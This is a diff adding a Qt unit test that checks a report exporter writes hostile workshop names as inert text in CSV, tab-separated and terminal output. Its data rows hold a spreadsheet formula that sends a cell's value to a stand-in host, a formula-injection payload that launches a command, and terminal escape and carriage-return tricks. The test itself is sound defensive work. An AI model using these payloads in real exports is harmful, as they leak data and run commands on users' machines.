@@ -34,6 +34,8 @@ private slots:
     void formatFromSuffix();
     void failedWriteKeepsOldFile();
     void unwritablePathIsReported();
+    void hostileNamesStayText_data();
+    void hostileNamesStayText();
 
 private:
     QByteArray written(ReportExport::Format format) const;
@@ -247,6 +249,41 @@ void TstReportExport::unwritablePathIsReported()
     QVERIFY(!QFileInfo::exists(path));
     QVERIFY(ReportExport::writeFile(dir.filePath(QStringLiteral("report.txt")), ReportExport::Format::Tabbed, m_doc)
                 .isEmpty());
+}
+
+void TstReportExport::hostileNamesStayText_data()
+{
+    QTest::addColumn<int>("format");
+    QTest::addColumn<QString>("name");
+    QTest::addColumn<QString>("mustNotContain");
+    const QString formula = QStringLiteral("=HYPERLINK(\"http://example.invalid/?\"&E2,\"车工班\")");
+    QTest::newRow("csv, quoted formula") << int(ReportExport::Format::Csv) << formula << QStringLiteral("\r\n\"=HYPERLINK");
+    QTest::newRow("tab-separated, formula") << int(ReportExport::Format::Tabbed) << formula << QStringLiteral("\n=HYPERLINK");
+    QTest::newRow("csv, command") << int(ReportExport::Format::Csv) << QStringLiteral("@SUM(1+1)*cmd|' /C calc'!A0")
+                                  << QStringLiteral("\r\n@SUM");
+    // On a terminal, an escape sequence in a name hides every figure after it; a carriage return
+    // writes the rest of the row over the name.
+    QTest::newRow("terminal, hidden text") << int(ReportExport::Format::Aligned) << QStringLiteral("车工班\x1b[8m")
+                                           << QStringLiteral("\x1b");
+    QTest::newRow("terminal, carriage return") << int(ReportExport::Format::Aligned)
+                                               << QStringLiteral("车工班\r钳工班  E1  电表  1") << QStringLiteral("\r");
+}
+
+// A name stored by a careless or hostile hand is written as text: a spreadsheet opening the export
+// does not run it as a formula, and a terminal showing the text report does not obey it.
+void TstReportExport::hostileNamesStayText()
+{
+    QFETCH(int, format);
+    QFETCH(QString, name);
+    QFETCH(QString, mustNotContain);
+    execSql(m_db->db(), QStringLiteral("UPDATE Workshop SET WrokShopName = ? WHERE WrokShopName = '车工班'"), { name });
+    m_model->open(ReportStatements::statement(Kind::Detail),
+                  ReportStatements::params(QDate(2024, 7, 1), QDate(2024, 7, 31),
+                                           m_db->scalar(QStringLiteral("SELECT WrokShopID FROM Workshop WHERE WrokShopName = '机加工车间'")).toLongLong()),
+                  Database::mainConnectionName());
+    QVERIFY(m_model->index(0, 0).data().toString() == name || m_model->index(1, 0).data().toString() == name);
+    const QString text = QString::fromUtf8(written(ReportExport::Format(format)));
+    QVERIFY(!text.contains(mustNotContain));
 }
 
 QTEST_MAIN(TstReportExport)
